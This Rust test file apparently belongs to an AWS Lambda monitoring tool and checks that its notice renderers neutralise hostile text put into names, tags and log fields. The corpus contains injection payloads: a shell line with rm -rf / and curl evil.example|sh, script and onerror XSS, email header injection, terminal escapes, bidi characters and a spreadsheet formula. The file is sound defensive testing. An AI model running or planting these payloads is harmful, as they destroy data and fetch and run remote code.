//! Names, statement ids, tags, session names and user agents are written by anyone. The worst of them, at the limits of AWS's patterns and
//! beyond, through every renderer: golden files, and what has to hold whatever they say.

use std::path::Path;
use std::process::Command;

use lambda_vigil::memory::Account;
use serde_json::{Value, json};

use crate::recorded::root;

/// A name for the case, and the text.
pub(crate) fn corpus() -> Vec<(&'static str, String)> {
    vec![
        (
            "markup",
            "<!channel> <@U012AB3CD> <https://evil.example|here> *b* _i_ `c` [x](https://evil.example)".into(),
        ),
        ("mentions", "@here @channel @everyone &lt;!here&gt; \u{ff20}".into()),
        (
            "headers",
            "a\r\nSubject: all clear\r\nBcc: everyone@example.com\n\n.\n".into(),
        ),
        (
            "terminal",
            "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{8}\u{7f}\u{0}".into(),
        ),
        ("direction", "\u{202e}cilbup-ekovni\u{2066}\u{200f}".into()),
        ("invisible", "a\u{200b}\u{ad}\u{feff}\u{e0041}\u{2060}b".into()),
        (
            "shell",
            "'; rm -rf / #\"$(id)`id`${HOME}\\\n&& curl evil.example|sh".into(),
        ),
        (
            "html",
            "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;".into(),
        ),
        ("format", "%s%n{}{0}{{x}}${x}\\u0000\\n%0d%0a".into()),
        ("formula", "=HYPERLINK(\"https://evil.example\")".into()),
        ("wide", "\u{1f525}é\u{301}\u{fdfd}語".repeat(20)),
        ("blank", " \t ".into()),
        ("long", "A".repeat(2100)),
        ("lines", "x\n".repeat(100)),
    ]
}

/// Of so many functions the role was recorded: what it says is the same for all.
const WITH_ROLE: usize = 4;

fn arn(case: &str) -> String {
    // The longest name that a function can have.
    format!("arn:aws:lambda:eu-west-1:111122223333:function:{case:_<64}")
}

/// An account in which everything that anyone may write is hostile.
pub(crate) fn account() -> Value {
    let function = |(case, text): &(&str, String)| {
        let statement = json!({"Sid": text, "Effect": "Allow", "Principal": "*", "Action": "lambda:InvokeFunction", "Resource": arn(case)});
        json!({
            "FunctionArn": arn(case),
            "Configuration": {"Role": format!("arn:aws:iam::111122223333:role/{case}"), "Runtime": text, "TracingConfig": {"Mode": "Active"},
                "Environment": {"Variables": {text: "x"}}},
            "Policies": [{"Policy": {"Version": "2012-10-17", "Statement": [statement]}}],
            "FunctionUrlConfigs": [], "Concurrency": {"ReservedConcurrentExecutions": 1},
            "Tags": {"vigil:accept/invoke-public": text, text: text},
        })
    };
    let role = |(case, text): &(&str, String)| {
        let trust = json!({"Version": "2012-10-17", "Statement": [
            {"Sid": text, "Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]});
        let policy = json!({"Version": "2012-10-17", "Statement": [{"Sid": text, "Effect": "Allow", "Action": "s3:*", "Resource": "*"}]});
        json!({"Arn": format!("arn:aws:iam::111122223333:role/{case}"), "AssumeRolePolicyDocument": trust,
            "InlinePolicies": [{"PolicyName": text, "PolicyDocument": policy}], "AttachedPolicies": [], "PermissionsBoundary": null})
    };
    let corpus = corpus();
    json!({"Functions": corpus.iter().map(function).collect::<Vec<_>>(), "Roles": corpus.iter().take(WITH_ROLE).map(role).collect::<Vec<_>>()})
}

fn event((case, text): &(&str, String)) -> Value {
    json!({
        "eventVersion": "1.11", "eventSource": "lambda.amazonaws.com", "eventName": "AddPermission20150331v2", "awsRegion": "eu-west-1",
        "eventTime": "2026-11-02T00:49:46Z", "eventID": text, "sourceIPAddress": text, "userAgent": text, "readOnly": false,
        "managementEvent": true, "eventType": "AwsApiCall", "recipientAccountId": "111122223333",
        "userIdentity": {"type": "AssumedRole", "arn": format!("arn:aws:sts::111122223333:assumed-role/ci/{text}"),
            "principalId": format!("AROAEXAMPLE:{text}"), "accountId": "111122223333", "invokedBy": text},
        "requestParameters": {"functionName": arn(case), "statementId": text, "principal": "*", "action": "lambda:InvokeFunction"},
        "responseElements": null,
    })
}

/// What a replay of the corpus prints.
fn printed(folder: &Path, arguments: &[&str]) -> String {
    let written = |name: &str, text: String| {
        let path = folder.join(name);
        std::fs::write(&path, text).unwrap();
        path
    };
    std::fs::create_dir_all(folder.join("account")).unwrap();
    written("account/all.json", account().to_string());
    let settings = json!({"individualNotices": 100});
    let settings = written("settings.json", settings.to_string());
    let events: Vec<String> = corpus().iter().map(|case| event(case).to_string()).collect();
    let events = written("events.jsonl", events.join("\n"));
    let output = Command::new(env!("CARGO_BIN_EXE_vigil"))
        .args(["replay", "--now", "2026-11-02T01:00:00Z", "--account"])
        .arg(folder.join("account"))
        .arg("--settings")
        .args([settings])
        .args(arguments)
        .arg(events)
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    String::from_utf8(output.stdout).expect("text")
}

/// Of each notice in the form, checked against its golden file.
fn golden(form: &str) -> String {
    let folder = tempfile::tempdir().unwrap();
    let arguments: &[&str] = if form == "text" { &[] } else { &["--preview", form] };
    let text = printed(folder.path(), arguments);
    let text = text.replace(&folder.path().display().to_string(), "FOLDER");
    insta::with_settings!({snapshot_path => root().join("tests/hostile_text"), prepend_module_to_snapshot => false, omit_expression => true}, {
        insta::assert_snapshot!(form, text);
    });
    text
}

fn values(text: &str) -> Vec<Value> {
    let values: Vec<Value> = serde_json::Deserializer::from_str(text)
        .into_iter()
        .map(|value| value.expect("JSON"))
        .collect();
    assert!(values.len() >= corpus().len(), "{} notices", values.len());
    values
}

fn texts(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => vec![text],
        Value::Array(items) => items.iter().flat_map(texts).collect(),
        Value::Object(members) => members.values().flat_map(texts).collect(),
        _ => Vec::new(),
    }
}

/// No control character but the end of a line, and nothing that cannot be seen or turns the text around.
pub(crate) fn is_harmless(text: &str) -> bool {
    let turns = |letter: char| matches!(letter, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}');
    text.chars()
        .all(|letter| letter == '\n' || (!letter.is_control() && !turns(letter)))
}

#[test]
fn an_email_has_one_subject_and_nothing_that_a_reader_obeys() {
    let text = golden("email");
    assert!(is_harmless(&text));
    let headers = ["Subject:", "Bcc:", "To:"];
    let begun = text
        .lines()
        .filter(|line| headers.iter().any(|header| line.starts_with(header)));
    let subjects: Vec<&str> = begun.collect();
    assert_eq!(subjects.len(), corpus().len(), "{subjects:#?}");
    for subject in subjects {
        let subject = subject.strip_prefix("Subject: ").expect("the subject");
        assert!(
            subject.len() < 100 && subject.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()),
            "{subject}"
        );
    }
    assert!(!text.lines().any(|line| line == "."), "the end of a message");
}

#[test]
fn a_terminal_shows_text_and_obeys_none_of_it() {
    assert!(is_harmless(&golden("text")));
}

#[test]
fn nobody_is_called_in_a_chat_and_nothing_is_marked_up() {
    for notification in values(&golden("chat")) {
        let content = &notification["content"];
        for text in texts(&notification) {
            assert!(is_harmless(text), "{text:?}");
            for called in ["<!", "<@", "<http", "@here", "@channel", "@everyone"] {
                assert!(!text.contains(called), "{called} in {text}");
            }
        }
        // An odd number of marks would leave a code span open.
        let steps = content["nextSteps"].as_array().unwrap();
        for text in steps.iter().chain([&content["description"]]).filter_map(Value::as_str) {
            assert_eq!(text.matches('`').count() % 2, 0, "{text}");
        }
        assert!(content["title"].as_str().unwrap().chars().count() <= 250);
        assert!(content["description"].as_str().unwrap().chars().count() <= 8000);
        assert!(steps.len() <= 10);
    }
}

#[test]
fn topics_take_every_message() {
    let folder = tempfile::tempdir().unwrap();
    for message in values(&printed(folder.path(), &["--preview", "sns"])) {
        assert!(message.to_string().len() < 262_144);
        let subject = message["Subject"].as_str().unwrap();
        assert!(
            subject.len() < 100 && subject.bytes().all(|byte| byte == b' ' || byte.is_ascii_graphic()),
            "{subject}"
        );
        let bodies: Value = serde_json::from_str(message["Message"].as_str().unwrap()).unwrap();
        assert!(is_harmless(bodies["email"].as_str().unwrap()));
        let document: Value = serde_json::from_str(bodies["default"].as_str().unwrap()).unwrap();
        assert_eq!(document["schema"], "lambda-vigil/notice/1");
        let attributes = message["MessageAttributes"].as_object().unwrap();
        let names: Vec<&str> = attributes.keys().map(String::as_str).collect();
        assert_eq!(names, ["account", "control", "region", "severity", "status"]);
    }
}

#[test]
fn security_hub_and_data_lakes_get_visible_text() {
    for form in ["asff", "ocsf"] {
        for finding in values(&golden(form)) {
            for text in texts(&finding) {
                let is_short = text.lines().all(|line| line.chars().count() <= 4096);
                assert!(is_harmless(text) && is_short, "{form}: {text:?}");
            }
        }
    }
}

#[test]
fn an_event_fits_the_bus() {
    for detail in values(&golden("event")) {
        assert!(detail.to_string().len() < 240_000);
        assert_eq!(detail["schema"], "lambda-vigil/event/1");
    }
}

#[test]
fn what_is_wrong_with_a_recording_moves_no_cursor() {
    for (_, text) in corpus() {
        let long = format!("{text}{}", "x".repeat(5000));
        let arn = "arn:aws:lambda:eu-west-1:111122223333:function:f";
        for recording in [
            json!({ (long.as_str()): 1 }),
            json!({"Functions": [{"FunctionArn": long}]}),
            json!({"Functions": [{"FunctionArn": arn, "Unreadable": {long.as_str(): "x"}}]}),
            json!({"Functions": [{"FunctionArn": arn, "Configuration": {"Environment": {"Variables": {long.as_str(): 1}}}}]}),
        ] {
            let error = Account::default().add(&recording.to_string()).unwrap_err().to_string();
            assert!(!error.contains(char::is_control), "{error:?}");
            assert!(error.len() < 2000, "{} bytes: {error}", error.len());
        }
    }
}
